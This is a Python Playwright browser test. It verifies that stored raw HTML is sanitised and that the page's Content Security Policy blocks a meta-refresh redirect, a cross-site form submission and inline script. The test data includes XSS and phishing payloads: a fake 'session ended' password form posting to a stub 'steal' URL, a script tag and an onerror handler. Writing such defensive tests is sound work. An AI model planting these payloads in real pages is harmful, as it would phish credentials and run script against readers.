"""An item's HTML stored raw (a row from before every write was sanitised, or written past
the ORM) reaches Chromium harmless, and the page's policy holds even if HTML got past the
sanitiser: the finding's meta refresh navigates nowhere, its phishing form cannot send
anything to another site, and no script runs.

The raw HTML goes into the row by SQL, past the sanitising field. The meta refresh and the
form point at a stubbed outside site, so a navigation or a submission there would really
happen and be seen, not fail for want of a server.
"""

import pytest
from playwright.sync_api import expect

from tests.browser.pages import screenshot, sign_in
from tests.conftest import store_unsanitised_html

PHISH = "https://blog.example.com/phished"
STEAL = "https://blog.example.com/steal"
ATTACK = (
    f'<meta http-equiv="refresh" content="0;url={PHISH}">'
    "<p>Cooled by the fjord since 2019.</p>"
    f'<form action="{STEAL}" method="post"><p>Your session has ended.</p>'
    '<input name="password" type="password"><button>Sign in again</button></form>'
    "<script>document.title = 'owned'</script>"
    '<img src="https://blog.example.com/x.png" onerror="document.title = \'owned\'">'
)

# Collects the policy's refusals as the page sees them (the init script runs before any
# of the page's own, and is itself not subject to the policy).
RECORD_VIOLATIONS = """
window.violations = [];
document.addEventListener('securitypolicyviolation', event => window.violations.push(
  `${event.effectiveDirective} ${event.blockedURI}`));
"""

# What a form or script that got past the sanitiser would do: added to the page's DOM.
SMUGGLE_FORM = """url => {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = url;
  form.innerHTML = '<input name="password" value="hunter2">'
    + '<button id="steal">Sign in again</button>';
  document.querySelector('.item-content').append(form);
}"""
SMUGGLE_SCRIPT = """() => {
  const script = document.createElement('script');
  script.textContent = "document.title = 'owned'";
  document.body.append(script);
}"""


@pytest.mark.browser
def test_raw_stored_html_neither_navigates_nor_submits_nor_runs(cast, new_context, traffic):
    store_unsanitised_html(cast.article, ATTACK)
    context = new_context()
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_in(page, "bob")
    item_url = page.url.split("/for-you")[0] + f"/items/{cast.article.pk}/"

    page.goto(item_url)
    expect(page.get_by_role("heading", name=cast.article.title, level=1)).to_be_visible()
    expect(page.get_by_text("Cooled by the fjord since 2019.")).to_be_visible()
    page.wait_for_timeout(1500)  # a 0-second refresh would long have fired
    assert page.url == item_url
    content = page.locator(".item-content")
    assert content.locator("meta, form, input, script, [onerror]").count() == 0
    assert page.title() != "owned"
    screenshot(page, "item-raw-html-made-harmless")

    # The policy, should HTML get past the sanitiser: a form to another site is refused...
    page.evaluate(SMUGGLE_FORM, STEAL)
    page.evaluate("document.getElementById('steal').click()")  # a reader's click
    page.wait_for_timeout(1000)
    assert page.url == item_url
    assert f"form-action {STEAL}" in page.evaluate("window.violations")
    # ... and so is a script written into the page.
    page.evaluate(SMUGGLE_SCRIPT)
    page.wait_for_timeout(200)
    assert page.title() != "owned"
    assert "script-src-elem inline" in page.evaluate("window.violations")

    assert dialogs == []
    assert not [url for url in traffic.urls if url.startswith((PHISH, STEAL))]
    assert traffic.unexpected() == []
